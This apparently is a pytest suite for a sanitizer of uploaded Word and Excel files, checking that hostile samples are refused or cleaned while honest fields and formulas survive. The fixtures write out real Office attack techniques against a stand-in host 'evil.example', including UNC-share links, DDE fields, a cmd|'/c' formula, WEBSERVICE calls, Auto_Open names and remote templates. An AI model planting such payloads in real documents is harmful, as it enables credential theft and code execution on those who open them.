"""Hostile Word and Excel files: what each would do when opened, and that its clean copy cannot.

MUTATED_FILES sets how many random files are built; `.ci/run` asks for 2,000.
"""

import io
import os
import random
import re
import zipfile
from xml.sax.saxutils import escape, quoteattr

import pytest
from lxml import etree
from openpyxl.formula import Tokenizer
from openpyxl.formula.tokenizer import TokenizerError

from dialogues.files.sanitizers import excel_formulas
from dialogues.files.sanitizers.errors import FileRejected
from dialogues.files.sanitizers.file_types import sanitize_file
from dialogues.files.sanitizers.office_markup import VOCABULARY
from tests.dialogues import sample_files

FILES = int(os.environ.get("MUTATED_FILES", "200")) // 2

HOST = "evil.example"
"""A word in every external address of the hostile files."""
SHARE = rf"\\{HOST}\share\a"
OFFICE = "http://schemas.openxmlformats.org"
NAMESPACES = {
    "w": f"{OFFICE}/wordprocessingml/2006/main",
    "r": f"{OFFICE}/officeDocument/2006/relationships",
    "a": f"{OFFICE}/drawingml/2006/main",
    "c": f"{OFFICE}/drawingml/2006/chart",
    "xdr": f"{OFFICE}/drawingml/2006/spreadsheetDrawing",
    "mc": f"{OFFICE}/markup-compatibility/2006",
    "v": "urn:schemas-microsoft-com:vml",
    "o": "urn:schemas-microsoft-com:office:office",
    "x": "urn:schemas-microsoft-com:office:excel",
    "asvg": "http://schemas.microsoft.com/office/drawing/2016/SVG/main",
    "w15": "http://schemas.microsoft.com/office/word/2012/wordml",
}
XMLNS = " ".join(f'xmlns:{prefix}="{space}"' for prefix, space in NAMESPACES.items())
SHEET = f"{OFFICE}/spreadsheetml/2006/main"


def word_with_body(body, *rows, **more):
    """Return a document with this body and the relationships `rows` (see sample_files.relations)."""
    return sample_files.docx(
        **{
            "word/document.xml": f"<w:document {XMLNS}><w:body>{body}</w:body></w:document>",
            "word/_rels/document.xml.rels": sample_files.relationships_part(*rows),
        }
        | more
    )


def word_with_settings(inside, *rows):
    return word_with_body(
        "<w:p/>",
        ("settings", "settings.xml"),
        **{
            "word/settings.xml": f"<w:settings {XMLNS}>{inside}</w:settings>",
            "word/_rels/settings.xml.rels": sample_files.relationships_part(*rows),
        },
    )


def run_paragraph(*pieces):
    """Return a paragraph of runs: "{", "|" and "}" begin, part and end a field, "<" begins markup, the rest is code."""
    marks = {"{": "begin", "|": "separate", "}": "end"}
    said = ""
    for piece in pieces:
        if piece in marks:
            said += f'<w:r><w:fldChar w:fldCharType="{marks[piece]}"/></w:r>'
        else:
            said += piece if piece.startswith("<") else f"<w:r><w:instrText>{escape(piece)}</w:instrText></w:r>"
    return f"<w:p>{said}</w:p>"


def word_with_field(*pieces):
    return word_with_body(run_paragraph("{", *pieces, "|", "<w:r><w:t>Here</w:t></w:r>", "}"))


def text_run(text):
    return f"<w:r><w:t>{text}</w:t></w:r>"


def text_box(inside):
    """Return a text box, which is separate from the text around it."""
    return (
        f"<w:r><w:pict><v:shape><v:textbox><w:txbxContent>{inside}</w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
    )


def excel(cells="", after="", names="", rows=(), **more):
    """Return a workbook whose sheet "One" has these cells, followed by more of the sheet."""
    return sample_files.xlsx(
        **{
            "xl/workbook.xml": (
                f'<workbook xmlns="{SHEET}" {XMLNS}><sheets><sheet name="One" sheetId="1" r:id="r0"/></sheets>'
                f"<definedNames>{names}</definedNames></workbook>"
            ),
            "xl/worksheets/sheet1.xml": (
                f'<worksheet xmlns="{SHEET}" {XMLNS}><sheetData><row r="4">{cells}</row></sheetData>{after}</worksheet>'
            ),
            "xl/worksheets/_rels/sheet1.xml.rels": sample_files.relationships_part(*rows),
        }
        | more
    )


def workbook_with_formula(text):
    return excel(f'<c r="B4"><f>{escape(text)}</f><v>1</v></c>')


def workbook_with_drawing(inside, *rows):
    return excel(
        after='<drawing r:id="r0"/>',
        rows=[("drawing", "../drawings/drawing1.xml")],
        **{
            "xl/drawings/drawing1.xml": f"<xdr:wsDr {XMLNS}>{inside}</xdr:wsDr>",
            "xl/drawings/_rels/drawing1.xml.rels": sample_files.relationships_part(*rows),
            "xl/media/a.png": sample_files.PNG,
        },
    )


def workbook_with_vml(inside):
    return excel(
        after='<legacyDrawing r:id="r0"/>',
        rows=[("vmlDrawing", "../drawings/vmlDrawing1.vml")],
        **{"xl/drawings/vmlDrawing1.vml": f"<xml {XMLNS}>{inside}</xml>"},
    )


def word_with_chart(inside, *rows):
    frame = f'<a:graphicData uri="{NAMESPACES["c"]}"><c:chart r:id="r0"/></a:graphicData>'
    return word_with_body(
        f"<w:drawing>{frame}</w:drawing>",
        ("chart", "charts/chart1.xml"),
        **{
            "word/charts/chart1.xml": f"<c:chartSpace {XMLNS}><c:chart/>{inside}</c:chartSpace>",
            "word/charts/_rels/chart1.xml.rels": sample_files.relationships_part(*rows),
        },
    )


def readable_content(copy):
    """Return all text of a copy as a reader sees it."""
    with zipfile.ZipFile(io.BytesIO(copy)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    said = list(parts)
    for name, part in parts.items():
        if name.endswith((".xml", ".rels", ".vml")):
            for element in etree.fromstring(part).iter():
                said += [element.tag, element.text or "", element.tail or "", *element.keys(), *element.values()]
    return "\n".join(said)


REFUSED = {
    # Word, fields: Word asks the server named in them for the file, with the reader's own account.
    "a link to a share": word_with_field(rf' HYPERLINK "\\\\{HOST}\\share\\a"'),
    "a link to a share with single backslashes": word_with_field(rf' HYPERLINK "{SHARE}"'),
    "a link to a share without quotation marks": word_with_field(rf"HYPERLINK {SHARE}"),
    "a link to a share right behind the name": word_with_field(rf'HYPERLINK"{SHARE}"'),
    "a link to a share in lower case, with odd spaces": word_with_field(f'\t hyperlink \u00a0\t "{SHARE}" '),
    "a link to a share in curly quotation marks": word_with_field(f"HYPERLINK “{SHARE}”"),
    "a link to a share behind a place": word_with_field(rf'HYPERLINK \l "x" "{SHARE}"'),
    "a link to a share behind another address": word_with_field(rf'HYPERLINK "https://a.example" "{SHARE}"'),
    "a link to a share with slashes": word_with_field(f'HYPERLINK "//{HOST}/share"'),
    "a link to a share by http with backslashes": word_with_field(rf'HYPERLINK "http:\\{HOST}@SSL\a"'),
    "a link to a file": word_with_field(f'HYPERLINK "file://{HOST}/a"'),
    "a link to a file in the middle of a word": word_with_field("HYPER", 'LINK "fi', f'le://{HOST}/a"'),
    "a link to a program": word_with_field(f'HYPERLINK "ms-word:ofe|u|https://{HOST}/a"'),
    "a link whose address another field spells": word_with_field("HYPERLINK ", "{", f'QUOTE "{SHARE}"', "}"),
    "a link whose address is the value of a bookmark": word_with_field("HYPERLINK ", "{", "REF where", "}"),
    "a simple link": word_with_body(f"<w:fldSimple w:instr=' HYPERLINK \"{SHARE}\" '/>"),
    "a field whose name another spells": word_with_field("{", "QUOTE 68 68 69", "}", f"AUTO {HOST}"),
    "a field whose name a simple one spells": word_with_field(
        '<w:fldSimple w:instr="QUOTE DDE"><w:r><w:t>DDE</w:t></w:r></w:fldSimple>', f"AUTO {HOST}"
    ),
    "a field that begins as another one": word_with_field("DATE", "{", "QUOTE x", "}", f" {HOST}"),
    "a field half of which is ordinary text": word_with_field("INCLUDE", text_run(f"PICTURE {HOST}")),
    "a field all of which is ordinary text": word_with_field(text_run(f"DDEAUTO {HOST}")),
    "a field half of which stands in a box beside it": word_with_field(
        f"<w:r>{text_box('<w:p><w:r><w:instrText>KEYWO</w:instrText></w:r></w:p>')}</w:r>", "RD", f" {HOST}"
    ),
    "a link half of which stands in a box beside it": word_with_field(
        'HYPERLINK "', text_box(text_run("https://a.example")), f'//{HOST}"'
    ),
    "a field that is another one once changes are rejected": word_with_field(
        "<w:ins><w:r><w:instrText>DATE \\@ </w:instrText></w:r></w:ins>", f'"{HOST}"'
    ),
    "a field that is deleted and can be brought back": word_with_field(
        f"<w:del><w:r><w:delInstrText>INCLUDETEXT {HOST}</w:delInstrText></w:r></w:del>"
    ),
    "a field that has no end": word_with_body(run_paragraph("{", f'INCLUDEPICTURE "https://{HOST}/a" \\d')),
    "a field in a heading of the page": word_with_body(
        '<w:sectPr><w:headerReference r:id="r0"/></w:sectPr>',
        ("header", "header1.xml"),
        **{"word/header1.xml": f"<w:hdr {XMLNS}>{run_paragraph('{', f'INCLUDETEXT {HOST}', '}')}</w:hdr>"},
    ),
    **{
        f"the field {name}": word_with_field(f' {name} "{SHARE}" ')
        for name in (
            "AUTOTEXT",
            "CONTROL",
            "DATABASE",
            "DDE",
            "DdeAuto",
            "EMBED",
            "FTNREF",
            "GLOSSARY",
            "HTMLACTIVEX",
            "IMPORT",
            "INCLUDE",
            "INCLUDEPICTURE",
            "INCLUDETEXT",
            "LINK",
            "MACROBUTTON",
            "PRINT",
            "RD",
            "NOBODYKNOWS",
        )
    },
    # Word, other.
    "a picture that is fetched": word_with_body('<a:blip r:link="r0"/>', ("hyperlink", f"https://{HOST}/", "External")),
    "an old picture that is fetched": word_with_body(f'<w:pict><v:imagedata src="{SHARE}"/></w:pict>'),
    "an old picture that a reference fetches": word_with_body(f'<w:pict><v:imagedata o:href="{SHARE}"/></w:pict>'),
    "a document inside the document": word_with_body(
        '<w:altChunk r:id="r0"/>', ("aFChunk", "a.xml"), **{"word/a.xml": "<a/>"}
    ),
    "a part of a document that lies elsewhere": word_with_body(
        '<w:subDoc r:id="r0"/>', ("subDocument", SHARE, "External")
    ),
    "an object of another program": word_with_body('<w:object><o:OLEObject r:id="r0"/></w:object>'),
    "a control that runs": word_with_body('<w:control r:id="r0"/>', ("control", "a.xml"), **{"word/a.xml": "<a/>"}),
    "a link of the file's own to a share": word_with_body('<w:hyperlink r:id="r0"/>', ("hyperlink", SHARE, "External")),
    "a link by http with backslashes": word_with_body("<w:p/>", ("hyperlink", rf"http:\\{HOST}\a", "External")),
    # Excel: the formula asks when the workbook is opened or reckoned anew.
    **{
        f"the formula {text}": workbook_with_formula(text)
        for text in (
            f'HYPERLINK("file://{HOST}/a","x")',
            f'HYPERLINK("{SHARE}")',
            'HYPERLINK(A1,"x")',
            f'HYPERLINK("http:"&"//{HOST}")',
            f'IMPORTCSV("https://{HOST}/a")',
            f'_xlfn.IMPORTTEXT("https://{HOST}")',
            f'_xlfn.WEBSERVICE("https://{HOST}")',
            f'webservice ("https://{HOST}")',
            f'_xlfn.IMAGE("https://{HOST}")',
            f"'{SHARE}\\[b.xlsx]One'!A1",
            f"[1]One!A1+{HOST}",
            f"'file:///{HOST}/b.ods'#$One.A1",
            f"cmd|'/c {HOST}'!A0",
            f"INDIRECT(\"'{SHARE}[b.xlsx]One'!A1\")",
            f'RTD("{HOST}",,"a")',
            f'CALL("{HOST}","a","J")',
            f'SQL.REQUEST("{HOST}")',
            f'CUBEVALUE("{HOST}","a")',
            f'_xlfn.STOCKHISTORY("{HOST}")',
            f'_xludf.FETCH("{HOST}")',
            f'EXEC("{HOST}")',
            f'Fetch("{HOST}")',
            f'_xlfn.MAP(A1:A2,_xlfn._xleta.WEBSERVICE)&"{HOST}"',
            f'DDE("{HOST}","a","b")',
            f'FILTERXML("{HOST}","a")',
            f'IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""{HOST}"",""A1"")"),1)',
            f'Other!A1&"{HOST}"',
            f'ORG.OPENOFFICE.STYLE("{HOST}")',
            f"'a|{HOST}'!A1",
            f'Cases[a"b]&WEBSERVICE("https://{HOST}")',
        )
    },
    "a name that asks": excel(names=f'<definedName name="a">_xlfn.WEBSERVICE("https://{HOST}")</definedName>'),
    "a name of another workbook": excel(names=f"<definedName name=\"a\">'{SHARE}[b.xlsx]One'!$A$1</definedName>"),
    "a name that runs": excel(names='<definedName name="_xlnm.Auto_Open">One!$A$1</definedName>'),
    "a name of a macro": excel(names='<definedName name="a" xlm="1" function="1">One!$A$1</definedName>'),
    "a rule of formatting that asks": excel(
        after=f"<conditionalFormatting><cfRule><formula>_xlfn.WEBSERVICE({HOST})</formula></cfRule></conditionalFormatting>"
    ),
    "a threshold that asks": excel(
        after='<conditionalFormatting><cfRule><cfvo type="formula" '
        f'val="WEBSERVICE({HOST})"/></cfRule></conditionalFormatting>'
    ),
    "a column of a table that asks": excel(
        after='<tableParts><tablePart r:id="r0"/></tableParts>',
        rows=[("table", "../tables/table1.xml")],
        **{
            "xl/tables/table1.xml": (
                f'<table xmlns="{SHEET}"><tableColumns><tableColumn name="a">'
                f"<calculatedColumnFormula>WEBSERVICE({HOST})</calculatedColumnFormula></tableColumn></tableColumns></table>"
            )
        },
    ),
    "a box whose text another workbook gives": workbook_with_drawing(f"<xdr:sp textlink=\"'{SHARE}[b.xlsx]One'!A1\"/>"),
    "a picture of a sheet that is fetched": workbook_with_drawing(
        '<xdr:pic><a:blip r:link="r0"/></xdr:pic>', ("image", f"https://{HOST}/a.png", "External")
    ),
    "another workbook, or a program by DDE": excel(rows=[("externalLink", "../externalLinks/externalLink1.xml")]),
    "a database": excel(rows=[("connections", "../connections.xml")]),
    "a table that a page of the web fills": excel(rows=[("queryTable", "../queryTables/queryTable1.xml")]),
    "an object of another program in a sheet": excel(rows=[("oleObject", SHARE, "External")]),
    "a sheet of macros": excel(rows=[("xlMacrosheet", "../macrosheets/sheet1.xml")]),
}


@pytest.mark.parametrize("what", REFUSED)
def test_file_that_reaches_for_something_is_refused_and_says_what_to_do(what):
    with pytest.raises(FileRejected) as refusal:
        sanitize_file(REFUSED[what], ".xlsx" if b"xl/workbook.xml" in REFUSED[what] else ".docx")

    assert str(refusal.value).endswith(("attach it again.", "attach that.", "the file inside by itself."))
    assert "damaged" not in str(refusal.value)


MAIL_MERGE = f'<w:connectString w:val="Provider=x;Data Source={HOST}"/><w:query w:val="SELECT {HOST}"/>'
SVG_EXTENSION = '<a:extLst><a:ext uri="a"><asvg:svgBlip r:link="r1" r:embed="r1"/></a:ext></a:extLst>'
REMOVED_CONTENT = {
    "a transformation of the file when it is saved": word_with_settings(
        f'<w:saveThroughXslt r:id="r0" w:solutionID="{HOST}"/>',
        ("transform", f"https://{HOST}/a.xsl", "External"),
    ),
    "a template that is opened with it": word_with_settings(
        '<w:attachedTemplate r:id="r0"/>', ("attachedTemplate", f"https://{HOST}/a.dotm", "External")
    ),
    "a database of addresses": word_with_settings(
        f'<w:mailMerge>{MAIL_MERGE}<w:dataSource r:id="r0"/></w:mailMerge>',
        ("mailMergeSource", SHARE, "External"),
    ),
    "a schema": word_with_settings(f'<w:attachedSchema w:val="{SHARE}"/>'),
    "a frame of another page": word_with_body(
        "<w:p/>",
        ("webSettings", "webSettings.xml"),
        **{
            "word/webSettings.xml": (
                f'<w:webSettings {XMLNS}><w:frameset><w:frame r:id="r0"/></w:frameset></w:webSettings>'
            ),
            "word/_rels/webSettings.xml.rels": sample_files.relationships_part(
                ("webSettings", f"https://{HOST}/", "External")
            ),
        },
    ),
    "a value from a part that nobody sees": word_with_body(
        f'<w:sdt><w:sdtPr><w:dataBinding w:xpath="{HOST}"/><w15:webExtensionLinked/></w:sdtPr></w:sdt>',
        ("customXml", "../customXml/item1.xml"),
        **{"customXml/item1.xml": f"<a>{HOST}</a>"},
    ),
    "the workbook of a chart that lies elsewhere": word_with_chart(
        '<c:externalData r:id="r0"><c:autoUpdate val="1"/></c:externalData>',
        ("oleObject", f"file://{HOST}/a", "External"),
    ),
    "numbers of a chart that lie elsewhere": word_with_chart(f"<c:f>'{SHARE}[b.xlsx]One'!$A$1</c:f>"),
    "a drawing that is fetched, beside its copy in pixels": word_with_body(
        f'<w:drawing><a:blip r:embed="r0" r:link="r1">{SVG_EXTENSION}</a:blip></w:drawing>',
        ("image", "media/a.png"),
        ("hyperlink", f"https://{HOST}/", "External"),
        **{"word/media/a.png": sample_files.PNG},
    ),
    "an old shape that leads to a file": word_with_body(
        f'<w:pict><v:shape href="file://{HOST}/a" o:href="{SHARE}"/></w:pict>'
    ),
    "an old shape of a kind that lies elsewhere": word_with_body(f'<w:pict><v:shape type="{SHARE}#a"/></w:pict>'),
    "an old shape whose style fetches": word_with_body(f"<w:pict><v:shape style=\"fill:url('{SHARE}')\"/></w:pict>"),
    "a fill that is fetched": word_with_body(
        f'<w:pict><v:shape><v:fill src="{SHARE}" o:href="{SHARE}"/></v:shape></w:pict>'
    ),
    "a new drawing in an old one": word_with_body(f'<w:pict><v:shape o:gfxdata="{HOST}"/></w:pict>'),
    "a picture that runs something when pressed": word_with_body(
        f'<w:drawing><a:cNvPr><a:hlinkClick action="ppaction://program?file={HOST}" r:id=""/></a:cNvPr></w:drawing>'
    ),
    "a picture that leads somewhere when touched": word_with_body(
        '<w:drawing><a:cNvPr><a:hlinkHover r:id="r0"/></a:cNvPr></w:drawing>',
        ("hyperlink", f"https://{HOST}/", "External"),
    ),
    "a link that leads on from where it leads": word_with_body(f'<w:hyperlink w:anchor="a" w:docLocation="{SHARE}"/>'),
    "what newer programs alone would read": word_with_body(
        f'<mc:AlternateContent><mc:Choice Requires="w15"><w:pict><v:imagedata src="{SHARE}"/></w:pict></mc:Choice>'
        "<mc:Fallback><w:p/></mc:Fallback></mc:AlternateContent>"
    ),
    "what nobody knows": word_with_body(
        f'<n:a xmlns:n="https://{HOST}/" n:b="{SHARE}">{HOST}</n:a><w:p n:c="a" xmlns:n="{HOST}"/>'
    ),
    "instructions to a program": word_with_body(f'<?mso-application progid="{HOST}"?><!-- {HOST} --><w:p/>'),
    "a rule of what may be typed that asks": excel(
        after=f"<dataValidations><dataValidation><formula1>WEBSERVICE({HOST})</formula1></dataValidation></dataValidations>"
    ),
    "an extension of a rule that asks": excel(
        after='<extLst><ext uri="a" xmlns:e="http://schemas.microsoft.com/office/excel/2006/main">'
        f"<e:f>WEBSERVICE({HOST})</e:f></ext></extLst>"
    ),
    "a box that runs a macro": workbook_with_drawing(f'<xdr:sp macro="[0]!{HOST}" textlink=""/>'),
    "a note that runs a macro": workbook_with_vml(
        f'<v:shape><x:ClientData ObjectType="Button"><x:FmlaMacro>{HOST}</x:FmlaMacro><x:FmlaLink>{HOST}</x:FmlaLink>'
        f"<x:DDE>{HOST}</x:DDE><x:Row>1</x:Row></x:ClientData></v:shape>"
    ),
    "a note with a page of the web in it": workbook_with_vml(
        f'<v:shape><v:textbox><div xmlns=""><img src="https://{HOST}/"/></div></v:textbox></v:shape>'
    ),
    "a control and what it asks": excel(
        after=f'<controls><control r:id="r0" name="{HOST}"/></controls>',
        rows=[("ctrlProp", "../ctrlProps/ctrlProp1.xml")],
        **{"xl/ctrlProps/ctrlProp1.xml": f'<formControlPr fmlaMacro="{HOST}" fmlaLink="[1]One!A1"/>'},
    ),
    "a pivot table of a database": excel(
        rows=[("pivotTable", "../pivotTables/pivotTable1.xml")],
        **{
            "xl/pivotTables/pivotTable1.xml": "<a/>",
            "xl/pivotTables/_rels/pivotTable1.xml.rels": sample_files.relationships_part(
                ("pivotCacheDefinition", SHARE, "External")
            ),
        },
    ),
    "a link within the workbook that leads elsewhere": excel(
        after=f'<hyperlinks><hyperlink ref="A1" location="\'{SHARE}[b.xlsx]One\'!A1"/></hyperlinks>'
    ),
    "ranges of other workbooks that are added up": excel(
        after=f'<dataConsolidate><dataRefs><dataRef r:id="r0" name="{HOST}"/></dataRefs></dataConsolidate>'
    ),
    "settings of a printer": excel(
        after='<pageSetup r:id="r0"/>',
        rows=[("printerSettings", "../printerSettings/p.bin")],
        **{"xl/printerSettings/p.bin": HOST.encode()},
    ),
}


@pytest.mark.parametrize("what", REMOVED_CONTENT)
def test_external_references_are_left_out_of_the_copy(what):
    sent, extension = REMOVED_CONTENT[what], ".xlsx" if b"xl/workbook.xml" in REMOVED_CONTENT[what] else ".docx"
    with zipfile.ZipFile(io.BytesIO(sent)) as archive:
        assert any(HOST.encode() in archive.read(name) for name in archive.namelist())

    copy = sanitize_file(sent, extension).content

    assert HOST not in readable_content(copy)
    assert sanitize_file(copy, extension).media_type


def test_a_refused_formula_is_named_with_its_place():
    with pytest.raises(FileRejected, match=r"“IMPORTCSV” in cell B4\. It is on the sheet “One”\. Replace the"):
        sanitize_file(workbook_with_formula('SUM(1)+IMPORTCSV("a")'), ".xlsx")
    with pytest.raises(FileRejected, match="“WEBSERVICE” in the name “a”"):
        sanitize_file(excel(names='<definedName name="a">WEBSERVICE("a")</definedName>'), ".xlsx")


def test_a_refused_field_is_named_with_a_hint():
    with pytest.raises(FileRejected, match=r"the file: “INCLUDETEXT a”. In Word press Ctrl\+A, then Ctrl\+Shift\+F9"):
        sanitize_file(word_with_field(" INCLUDETEXT  a "), ".docx")


# What honest files are made of.
FIELDS = [
    "PAGE",
    " page  \\* MERGEFORMAT ",
    'TOC \\o "1-3" \\h \\z \\u',
    "PAGEREF _Toc1 \\h",
    "REF a \\h",
    "SEQ Table \\* ARABIC",
    'DATE \\@ "d MMMM yyyy"',
    "= SUM(ABOVE)",
    "STYLEREF 1",
    'HYPERLINK "https://example.org/a b?c=1&d#e"',
    'HYPERLINK \\l "_Toc1"',
    'HYPERLINK "https://example.org/" \\o "The law" \\t "_blank"',
    "HYPERLINK https://example.org/",
    'HYPERLINK "mailto:a@b.example"',
    'HYPERLINK "https://example.org/" \\h',
    "FORMTEXT",
    "MACROBUTTON NoMacro [Click here]",
    'ADDIN ZOTERO_ITEM CSL_CITATION {"a":1}',
    "ADDIN EN.CITE <EndNote/>",
    'QUOTE "a"',
    "FILENAME \\p",
    'SYMBOL 61480 \\f "Wingdings"',
    "",
]


@pytest.mark.parametrize("code", FIELDS)
def test_field_of_an_honest_document_stays(code):
    assert code.strip() in readable_content(sanitize_file(word_with_field(code), ".docx").content)
    assert code.strip() in readable_content(
        sanitize_file(word_with_body(f"<w:fldSimple w:instr={quoteattr(code)}/>"), ".docx").content
    )


FORMULAS = [
    "SUM(B1:B9)",
    'IF(A2="a|b",SUM($B$1:B9),VLOOKUP(A1,One!A1:B2,2,FALSE))',
    "One!A1",
    "'One'!$A:$B",
    "SUM(One!1:3)",
    "LOG10(A1)+ATAN2(1,2)",
    "Cases[@Count]",
    "SUBTOTAL(109,[Cases])",
    "Cases[[#This Row],[a|b]]",
    "SUM(Cases[[#All],[a]:[b]])",
    '_xlfn.IFNA(_xlfn.XLOOKUP(A1,B:B,C:C),"")',
    "_xlfn._xlws.SORT(_xlfn.UNIQUE(A1:A9))",
    "_xlfn.LET(_xlpm.a,1,_xlpm.a+1)",
    "_xlfn.ANCHORARRAY(A1)",
    "{1,2;3,4}",
    "-1.5E+3%",
    "#REF!+One!#REF!",
    "A1:INDEX(A:A,COUNTA(A:A))",
    'HYPERLINK("#One!A1","Go")',
    'HYPERLINK("https://example.org/","The law")',
    '"it""s "&TEXT(NOW(),"yyyy-mm-dd")',
    "Budget_2021*1.1",
    "+A1--A2<>3",
    'IFERROR(__xludf.DUMMYFUNCTION("FILTER(A1:A3,A1:A3>""x"")"),5)',
    "TRUE()",
    "SUM(A1,(B1:B2 B2:B3))",
    "_xlfn.SINGLE(A1)",
    'MID(CELL("filename",A1),FIND("]",CELL("filename",A1))+1,31)',
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_of_an_honest_workbook_stays(text):
    assert text in readable_content(sanitize_file(workbook_with_formula(text), ".xlsx").content)


# --- By chance --------------------------------------------------------------------------------------------------------

PIECES = [
    "SUM(",
    "WEBSERVICE(",
    "HYPERLINK(",
    "_xlfn.",
    "_xleta.",
    "__xludf.DUMMYFUNCTION(",
    "A1",
    "One!",
    "'One'!",
    "[1]",
    "[b.xlsx]",
    "Cases[",
    "]",
    "'",
    '"',
    '""',
    "|",
    "!",
    ")",
    ",",
    "&",
    "+",
    " ",
    "(",
    "#REF!",
    "1",
    "{",
    "}",
    "\\\\a\\",
    "https://a",
    "#",
    "@",
    "$A$1",
]


def test_formulas_put_together_by_chance_call_nothing_but_what_is_known():
    """Compared with the tokens of openpyxl wherever our reader accepts the formula."""
    chance = random.Random("formulas")  # noqa: S311 -- the same each time
    taken = 0
    for _ in range(FILES * 30):
        text = "".join(chance.choices(PIECES, k=chance.randrange(1, 9)))
        if excel_formulas.find_refused_part(text, frozenset({"one"})) is not None:
            continue
        taken += 1
        try:
            tokens = Tokenizer(f"={text}").items
        except (TokenizerError, IndexError):  # no formula to that reader: nothing is called
            continue
        for token in tokens:
            if token.type == token.FUNC and token.subtype == token.OPEN:
                called = re.search(r"([\w.]*)\($", token.value)[1]
                assert called in {"", "SUM", "HYPERLINK", "__xludf.DUMMYFUNCTION"} or called.endswith(".SUM"), text
            if token.type == token.OPERAND and token.subtype == token.RANGE:
                assert not set(re.sub(r"\[[^]]*\]", "", token.value)) & set("|\\"), text
                assert not re.search(r"(?<!Cases)\[(?:1|b.xlsx)\][\w'!]", token.value), text
    assert taken > FILES


NAMES = [
    "t",
    "p",
    "blip",
    "saveThroughXslt",
    "externalData",
    "attachedTemplate",
    "imagedata",
    "f",
    "control",
    "nobodyKnows",
]
ATTRIBUTES = [
    "r:id",
    "r:link",
    "r:embed",
    "href",
    "src",
    "o:href",
    "w:val",
    "action",
    "macro",
    "w:docLocation",
    "connectString",
]
EXTERNAL_TARGETS = [
    ("External", f"https://{HOST}/"),
    ("External", SHARE),
    ("Internal", f"//{HOST}/a"),
    ("Internal", "media/a.png"),
]
KINDS = [
    "hyperlink",
    "image",
    "attachedTemplate",
    "transform",
    "oleObject",
    "package",
    "externalLink",
    "styles",
    "customXml",
    "frame",
    "vbaProject",
    "printerSettings",
    "thumbnail",
    "mailMergeSource",
    "nobodyKnows",
    "settings",
    "font",
    "webSettings",
]


def random_document(chance):
    """Build a document with all kinds of elements, attributes and relationships in all places."""
    inside = ""
    for _ in range(chance.randrange(1, 6)):
        prefix = chance.choice([*NAMESPACES, "n"])
        values = ["r0", "r1", "r2", "1", f"file://{HOST}/a"]
        said = "".join(f' {name}="{chance.choice(values)}"' for name in chance.sample(ATTRIBUTES, 2))
        inner = chance.choice(["", "<w:r><w:t>words</w:t></w:r>", inside])
        name = f"{prefix}:{chance.choice(NAMES)}"
        inside = f"{inside if inner != inside else ''}<{name}{said} xmlns:n='n'>{inner}</{name}>"
    rows = []
    for _ in range(chance.randrange(0, 3)):
        mode, target = chance.choice(EXTERNAL_TARGETS)
        rows.append((chance.choice(KINDS), target, mode))
    return word_with_body(f'{inside}<n:a xmlns:n="n"/>', *rows, **{"word/media/a.png": sample_files.PNG})


@pytest.mark.parametrize("number", range(4))
def test_files_put_together_by_chance_keep_nothing_but_what_is_known(number):
    chance = random.Random(f"elements {number}")  # noqa: S311 -- the same each time
    kept = 0
    for _ in range(FILES // 4):
        try:
            copy = sanitize_file(random_document(chance), ".docx").content
        except FileRejected:
            continue
        kept += 1
        assert_only_known_parts(copy)
    assert kept > FILES // 40


def assert_only_known_parts(copy):
    """Check each part, element, attribute and relationship of a copy with another XML parser."""
    with zipfile.ZipFile(io.BytesIO(copy)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name, part in parts.items():
        if name == "[Content_Types].xml" or not name.endswith((".xml", ".rels", ".vml")):
            continue
        for element in etree.fromstring(part).iter():
            if name.endswith(".rels"):
                target, mode = element.get("Target", "/"), element.get("TargetMode", "Internal")
                if mode == "External":
                    assert element.get("Type").endswith("/hyperlink")
                    assert target.startswith(("https://", "mailto:"))
                else:
                    assert target == "/" or target.removeprefix("/") in parts
            else:
                tag = etree.QName(element)
                assert f"{tag.namespace} {tag.localname}" in VOCABULARY
                assert not {etree.QName(key).localname for key in element.attrib} & FETCHING
                assert not any(SHARE in value for value in element.values() if value)


FETCHING = {"link", "href", "src", "action", "macro", "docLocation", "connectString"}
